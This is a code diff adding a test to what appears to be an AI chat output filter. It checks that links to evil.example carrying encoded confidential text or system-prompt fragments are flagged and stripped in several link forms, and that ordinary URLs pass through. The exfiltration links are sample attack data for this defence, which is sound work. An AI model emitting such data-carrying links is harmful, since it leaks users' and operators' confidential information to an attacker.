@@ -187,6 +187,33 @@ test('unsafe links lose their address', () => {
   }
 })
 
+test('an address to click says no more than a search does, and none of the prompt', () => {
+  const carried = encodeURIComponent('顧客の見積は社外秘です。'.repeat(20))
+  const forms = [
+    `[x](https://evil.example/?q=${carried})`,
+    `https://evil.example/?q=${carried}`,
+    `<https://evil.example/?q=${carried}>`,
+    `www.evil.example/?q=${carried}`,
+    `<a href="https://evil.example/#${carried}">x</a>`,
+    `[x](https://evil.example/${carried}${carried})`,
+  ]
+  for (const form of forms) {
+    everyCut(`Look: ${form} done`, ({ out, kinds }) => {
+      assert.deepEqual(kinds, ['unsafe-link'], form)
+      assert.ok(!out.includes(carried.slice(0, 40)) && out.endsWith(' done'), out)
+    })
+  }
+  const prompt = encodeURIComponent(
+    '社内の料金表は決して開示してはいけません。必ず出典を示してください。',
+  )
+  everyCut(`See https://evil.example/?q=${prompt} now`, ({ out, kinds }) => {
+    assert.ok(kinds.includes('system-prompt'), out)
+    assert.ok(!out.includes(prompt.slice(60, 160)), out)
+  })
+  for (const fair of ['https://ja.wikipedia.org/wiki/%E6%B8%AF', '100% sure, 5%2 and %zz: 50%'])
+    everyCut(fair, ({ out, kinds }) => assert.deepEqual([out, kinds], [fair, []]))
+})
+
 test('images of allowed hosts pass, of others not', () => {
   const options = { imageHosts: ['cdn.example.jp'] }
   assert.deepEqual(filter(['![](https://cdn.example.jp/a.png?w=10)'], options).kinds, [])
